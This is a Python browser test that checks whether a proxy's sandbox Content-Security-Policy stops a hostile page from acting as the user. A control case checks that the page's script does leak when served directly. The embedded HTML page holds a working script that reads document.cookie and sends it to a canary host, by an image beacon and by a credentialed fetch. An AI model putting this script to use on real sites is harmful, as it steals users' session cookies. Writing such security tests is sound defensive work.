"""In a real browser: a page served by a sandbox through the proxy cannot act as the user.

The same hostile page is loaded twice: straight from the fake upstream (the control, where
its script runs and the canary hears from it) and through the proxy (where the proxy's
``Content-Security-Policy: sandbox; default-src 'none'`` must stop all of it).
"""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
from aiohttp.test_utils import TestServer
from playwright.async_api import Browser, async_playwright

from tests.conftest import PREFIX
from tests.support.chromium import CHROMIUM, CHROMIUM_ARGS
from tests.support.fake_upstream import Seen

pytestmark = pytest.mark.browser

HOSTILE_PAGE = """<!doctype html>
<html><head><title>untouched</title></head><body><p>sandbox page</p>
<script>
  document.title = "script ran";
  var stolen = "";
  try { stolen = document.cookie; } catch (e) { stolen = "blocked:" + e.name; }
  try { document.cookie = "tossed=1; path=/"; } catch (e) {}
  new Image().src = "CANARY/leak-image?cookie=" + encodeURIComponent(stolen);
  fetch("PROXY/api/proxy/leak-fetch?target=" + encodeURIComponent("CANARY"), {
    method: "POST", credentials: "include", body: stolen
  }).catch(function () {});
</script></body></html>
"""


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    """Debian's Chromium, driven by Playwright."""
    async with async_playwright() as playwright:
        launched = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield launched
        await launched.close()


@pytest.fixture
def hostile(upstream: TestServer, proxy: TestServer, seen: Seen) -> str:
    canary = f"http://127.0.0.1:{upstream.port}"
    seen.page = HOSTILE_PAGE.replace("CANARY", canary).replace("PROXY", PREFIX)
    return canary


def leaks(seen: Seen) -> list[str]:
    return [r.path for r in seen.requests if "leak" in r.path]


async def test_control_script_runs_when_served_directly(
    browser: Browser, hostile: str, seen: Seen
) -> None:
    """Without the proxy's headers the page's script runs and reaches the canary (the test can fail)."""
    page = await (await browser.new_context()).new_page()
    await page.goto(hostile + "/page.html")
    await page.wait_for_function("document.title === 'script ran'")
    await page.wait_for_timeout(500)
    assert leaks(seen)


async def test_proxied_page_cannot_act_as_the_user(
    browser: Browser, hostile: str, proxy: TestServer, seen: Seen
) -> None:
    """Through the proxy, the script cannot read or set cookies, call the notebook, or leak."""
    origin = f"http://127.0.0.1:{proxy.port}"
    context = await browser.new_context()
    await context.add_cookies(
        [{"name": "oauth2_proxy_kubeflow", "value": "user-session", "url": origin}]
    )
    page = await context.new_page()
    response = await page.goto(f"{origin}{PREFIX}/api/proxy/page.html?target={hostile}")
    assert response is not None
    assert response.status == 200
    assert response.headers["content-security-policy"] == "sandbox; default-src 'none'"
    await page.wait_for_timeout(1000)
    assert await page.title() == "untouched"
    assert "sandbox page" in await page.content()
    cookies = {c["name"]: c["value"] for c in await context.cookies(origin)}
    assert cookies == {"oauth2_proxy_kubeflow": "user-session"}
    # The only request the canary saw is the page itself.
    assert leaks(seen) == []
    assert [r.path for r in seen.requests] == ["/page.html"]
